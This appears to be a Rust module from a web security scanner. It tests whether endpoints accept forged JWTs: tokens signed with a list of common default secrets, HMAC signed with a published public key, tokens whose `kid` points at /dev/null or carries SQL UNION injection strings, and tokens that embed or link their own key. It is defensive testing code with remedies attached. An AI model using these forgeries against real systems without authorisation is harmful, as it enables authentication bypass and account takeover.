//! Tokens signed with a key that the signer should not have, or that the token itself chose.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::ask::{Found, Scan};
use crate::client::Who;
use crate::error::Stop;
use crate::finding::{Rule, Severity};
use crate::jwt::{self, Token};
use crate::message::Request;
use crate::probes::jwt_signature::{UNCHECKED, guarded, opens};
use crate::surface::Endpoint;

pub(crate) static WEAK: Rule = Rule {
    id: "jwt-weak-secret",
    title: "Signs tokens with a secret that can be guessed",
    cwe: 1391,
    severity: Severity::Critical,
    remedy: "Sign with a random key of 256 bits or more, or with a key pair.",
};
pub(crate) static CONFUSION: Rule = Rule {
    id: "jwt-algorithm-confusion",
    title: "Takes the public key for a secret of HMAC",
    cwe: 347,
    severity: Severity::Critical,
    remedy: "Verify with the algorithm that belongs to the key, whatever the token says.",
};
pub(crate) static KID: Rule = Rule {
    id: "jwt-kid",
    title: "Finds the key of a token wherever its `kid` points",
    cwe: 73,
    severity: Severity::Critical,
    remedy: "Look `kid` up among the keys that one has; never in files or by SQL made of it.",
};
pub(crate) static OWN: Rule = Rule {
    id: "jwt-own-key",
    title: "Takes tokens that bring their own key",
    cwe: 347,
    severity: Severity::Critical,
    remedy: "Ignore `jwk`, `jku` and `x5u` in tokens.",
};
pub(crate) const RULES: &[&Rule] = &[&WEAK, &CONFUSION, &KID, &OWN];

/// Secrets that examples and defaults have.
const SECRETS: &[&str] = &[
    "secret",
    "password",
    "changeme",
    "change-me",
    "123456",
    "jwt_secret",
    "jwt-secret",
    "your-256-bit-secret",
    "your_jwt_secret",
    "secretkey",
    "secret_key",
    "secret-key",
    "mysecret",
    "my-secret-key",
    "supersecret",
    "super-secret-key",
    "key",
    "test",
    "dev",
    "admin",
    "qwerty",
    "default",
    "private",
    "token",
    "your-secret-key",
    "dev-secret-key",
    "insecure",
    "s3cr3t",
    "hmac",
    "",
];
/// Where public keys are published.
const KEYS: &[&str] = &["/.well-known/jwks.json", "/jwks.json", "/api/v1/jwks.json"];
const JWKS: &str = "/scan-keys";

/// What the scanner's listener answers: a set of keys with the scanner's own in it.
pub(crate) fn pages() -> BTreeMap<&'static str, String> {
    BTreeMap::from([(JWKS, json!({ "keys": [jwt::own_jwk()] }).to_string())])
}

/// A way to make a token of these claims.
type Forge = Box<dyn Fn(&Value) -> String + Send + Sync>;

pub(crate) async fn run(scan: &mut Scan) -> Result<(), Stop> {
    let Some(token) = scan.me().bearer.as_deref().and_then(Token::parse) else { return Ok(()) };
    let forgeries = forgeries(scan, &token).await?;
    for endpoint in guarded(scan).await? {
        if scan.has(&UNCHECKED, &endpoint.method, &endpoint.path) {
            continue;
        }
        for (rule, detail, forge) in &forgeries {
            if !scan.has(rule, &endpoint.method, &endpoint.path) {
                attempt(scan, &endpoint, &token, (*rule, detail, forge)).await?;
            }
        }
    }
    Ok(())
}

async fn attempt(
    scan: &mut Scan,
    endpoint: &Endpoint,
    token: &Token,
    (rule, detail, forge): (&'static Rule, &str, &Forge),
) -> Result<(), Stop> {
    let mut seen = Vec::new();
    for _ in 0..2 {
        let claims = token.marked(&scan.chance.word());
        let exchange = opens(scan, endpoint, &forge(&claims)).await?;
        if !exchange.1.is_success() {
            return Ok(());
        }
        seen.push(exchange);
    }
    scan.report(Found::certain(rule, detail, &seen));
    Ok(())
}

async fn forgeries(scan: &mut Scan, token: &Token) -> Result<Vec<(&'static Rule, String, Forge)>, Stop> {
    let mut all: Vec<(&'static Rule, String, Forge)> = Vec::new();
    let header = token.header.clone();
    let mut add =
        |rule: &'static Rule, detail: &str, forge: Forge| all.push((rule, detail.to_owned(), forge));
    let signed =
        |header: Value, key: Vec<u8>| -> Forge { Box::new(move |claims| jwt::hs256(&header, claims, &key)) };
    let guesses: Vec<&str> = if token.algorithm() == "HS256" {
        token.secret_among(SECRETS).into_iter().collect()
    } else {
        SECRETS.iter().take(4).copied().collect()
    };
    for guess in guesses {
        add(
            &WEAK,
            "a token that the scanner signed with a common secret is taken",
            signed(header.clone(), guess.into()),
        );
    }
    for key in public_keys(scan).await?.iter().flat_map(jwt::spellings) {
        add(&CONFUSION, "a token signed by HMAC with the public key is taken", signed(header.clone(), key));
    }
    let empty = "a token whose `kid` points to an empty file is taken";
    for kid in ["../../../../../../../dev/null", "/dev/null"] {
        add(&KID, empty, signed(token.header_with(&json!({ "kid": kid })), Vec::new()));
    }
    let injected = "a token whose `kid` makes the database answer with a key is taken";
    for kid in ["x' UNION SELECT 'florin'-- ", "x' UNION SELECT 'florin', 'florin'-- "] {
        add(&KID, injected, signed(token.header_with(&json!({ "kid": kid })), b"florin".to_vec()));
    }
    let embedded = token.header_with(&json!({ "jwk": jwt::own_jwk(), "kid": "scan" }));
    add(
        &OWN,
        "a token that has its key in its header is taken",
        Box::new(move |claims| jwt::own(&embedded, claims)),
    );
    if let Some(url) = scan.listener.as_ref().map(|listener| listener.url(JWKS.trim_start_matches('/'))) {
        let pointing = token.header_with(&json!({ "jku": url, "kid": "scan" }));
        add(
            &OWN,
            "a token that says where its key is fetched from is taken",
            Box::new(move |claims| jwt::own(&pointing, claims)),
        );
    }
    Ok(all)
}

async fn public_keys(scan: &mut Scan) -> Result<Vec<Value>, Stop> {
    for place in KEYS {
        let answer = scan.send(&Request::get(*place), &Who::nobody()).await?;
        let keys = answer.json().and_then(|document| document.get("keys")?.as_array().cloned());
        if let Some(keys) = keys.filter(|keys| answer.is_success() && !keys.is_empty()) {
            return Ok(keys);
        }
    }
    Ok(Vec::new())
}
